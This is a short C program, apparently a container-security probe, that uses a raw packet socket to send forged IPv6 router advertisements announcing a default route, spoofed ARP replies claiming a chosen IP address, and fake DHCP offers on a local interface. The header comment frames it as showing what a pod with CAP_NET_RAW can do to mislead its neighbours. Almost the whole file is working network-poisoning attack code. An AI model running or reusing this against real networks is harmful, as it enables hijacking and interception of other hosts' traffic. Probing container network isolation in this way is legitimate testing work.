/*
 * poison INTERFACE ADDRESS: sends what a pod with CAP_NET_RAW can send to mislead its neighbours: router advertisements with a default
 * route, ARP answers that claim ADDRESS, and DHCP offers; a few of each. Prints how many frames the kernel took.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/if_ether.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static unsigned char frame[512];
static unsigned char own[6];

static unsigned short sum(const void *data, size_t size, unsigned start)
{
    const unsigned char *bytes = data;
    unsigned total = start;
    for (size_t at = 0; at < size; at++)
        total += at % 2 ? bytes[at] : (unsigned)bytes[at] << 8;
    while (total >> 16)
        total = (total & 0xffff) + (total >> 16);
    return htons((unsigned short)~total);
}

static void ethernet(const char *destination, unsigned short type)
{
    memset(frame, 0, sizeof frame);
    memcpy(frame, destination, 6);
    memcpy(frame + 6, own, 6);
    frame[12] = (unsigned char)(type >> 8);
    frame[13] = (unsigned char)type;
}

static size_t advertisement(void)
{
    ethernet("\x33\x33\0\0\0\1", 0x86dd);
    struct ip6_hdr *ip = (void *)(frame + 14);
    struct nd_router_advert *told = (void *)(ip + 1);
    unsigned char *prefix = (void *)(told + 1);
    size_t size = sizeof *told + 32;
    ip->ip6_flow = htonl(6U << 28);
    ip->ip6_plen = htons((unsigned short)size);
    ip->ip6_nxt = IPPROTO_ICMPV6;
    ip->ip6_hlim = 255;
    inet_pton(AF_INET6, "fe80::bad", &ip->ip6_src);
    inet_pton(AF_INET6, "ff02::1", &ip->ip6_dst);
    told->nd_ra_type = ND_ROUTER_ADVERT;
    told->nd_ra_curhoplimit = 64;
    told->nd_ra_router_lifetime = htons(1800);
    prefix[0] = 3;
    prefix[1] = 4;
    prefix[2] = 64;
    prefix[3] = 0xc0;
    memset(prefix + 4, 0x7f, 8);
    inet_pton(AF_INET6, "2001:db8:bad::", prefix + 16);
    told->nd_ra_cksum = sum(told, size, (unsigned)size + IPPROTO_ICMPV6 + (unsigned)(unsigned short)~ntohs(sum(&ip->ip6_src, 32, 0)));
    return 14 + sizeof *ip + size;
}

static size_t arp(const char *address)
{
    ethernet("\xff\xff\xff\xff\xff\xff", 0x0806);
    struct ether_arp *told = (void *)(frame + 14);
    told->ea_hdr = (struct arphdr){.ar_hrd = htons(1), .ar_pro = htons(0x0800), .ar_hln = 6, .ar_pln = 4, .ar_op = htons(ARPOP_REPLY)};
    memcpy(told->arp_sha, own, 6);
    inet_pton(AF_INET, address, told->arp_spa);
    memset(told->arp_tha, 0xff, 6);
    inet_pton(AF_INET, address, told->arp_tpa);
    return 14 + sizeof *told;
}

static size_t offer(const char *address)
{
    ethernet("\xff\xff\xff\xff\xff\xff", 0x0800);
    struct iphdr *ip = (void *)(frame + 14);
    struct udphdr *udp = (void *)(ip + 1);
    size_t size = 240;
    *ip = (struct iphdr){.ihl = 5, .version = 4, .tot_len = htons((unsigned short)(28 + size)), .ttl = 64, .protocol = IPPROTO_UDP, .daddr = 0xffffffff};
    inet_pton(AF_INET, address, &ip->saddr);
    ip->check = sum(ip, sizeof *ip, 0);
    *udp = (struct udphdr){.source = htons(67), .dest = htons(68), .len = htons((unsigned short)(8 + size))};
    ((unsigned char *)(udp + 1))[0] = 2;
    return 14 + 28 + size;
}

int main(int argc, char **argv)
{
    if (argc != 3)
        return 1;
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1]), .sll_halen = 6};
    struct ifreq request = {0};
    strncpy(request.ifr_name, argv[1], sizeof request.ifr_name - 1);
    if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &request)) {
        perror("socket");
        return 1;
    }
    memcpy(own, request.ifr_hwaddr.sa_data, 6);
    int sent = 0;
    for (int round = 0; round < 5; round++) {
        sent += sendto(fd, frame, advertisement(), 0, (struct sockaddr *)&to, sizeof to) > 0;
        sent += sendto(fd, frame, arp(argv[2]), 0, (struct sockaddr *)&to, sizeof to) > 0;
        sent += sendto(fd, frame, offer(argv[2]), 0, (struct sockaddr *)&to, sizeof to) > 0;
        usleep(50000);
    }
    printf("sent %d\n", sent);
    return 0;
}
